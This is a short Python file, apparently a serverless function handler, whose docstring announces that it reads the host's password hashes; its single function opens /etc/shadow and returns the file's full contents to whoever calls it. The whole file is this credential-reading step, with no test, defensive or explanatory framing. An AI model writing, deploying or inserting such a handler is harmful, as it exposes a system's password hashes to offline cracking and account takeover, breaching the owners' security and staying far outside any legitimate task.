"""Read the host's password hashes."""


def handler(event, context):
    with open("/etc/shadow") as f:
        return f.read()
